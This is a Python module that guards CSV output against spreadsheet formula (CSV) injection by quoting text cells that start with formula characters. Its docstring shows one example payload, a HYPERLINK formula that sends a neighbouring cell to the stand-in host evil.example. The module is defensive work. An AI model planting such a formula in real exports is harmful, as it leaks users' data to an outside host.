"""CSV that a spreadsheet cannot execute (OWASP "CSV injection").

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("https://evil.example/?"&A2, "klik")`` sends a neighbouring cell away when
clicked), and a leading tab or carriage return can hide such a start. Every CSV meedoen writes
goes through :func:`csv_cell` / :func:`csv_writer`: a *text* cell with such a start gets a
single quote in front (``'=HYPERLINK(…)``), which spreadsheets show as text. Numbers stay
numbers: an ``int``/``float`` (also a negative one) is written as it is, so a column of amounts
still sums in the spreadsheet.

The data package's intake reads CSV too; these helpers are only for output meant for people.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
from collections.abc import Iterable
from typing import IO, Any

#: The starts OWASP lists: a spreadsheet treats a cell starting with one of them as a formula.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """One cell, safe for a spreadsheet: text that starts like a formula gets a ``'`` in front;
    numbers (bool, int, float, Decimal), dates and None are returned unchanged."""
    if value is None or isinstance(
        value, bool | int | float | decimal.Decimal | dt.date | dt.time | dt.timedelta
    ):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(DANGEROUS):
        return "'" + text
    return text


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose every row passes :func:`csv_cell`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> SafeWriter:
    """A CSV writer for output people open in a spreadsheet (options as for ``csv.writer``)."""
    return SafeWriter(out, **options)
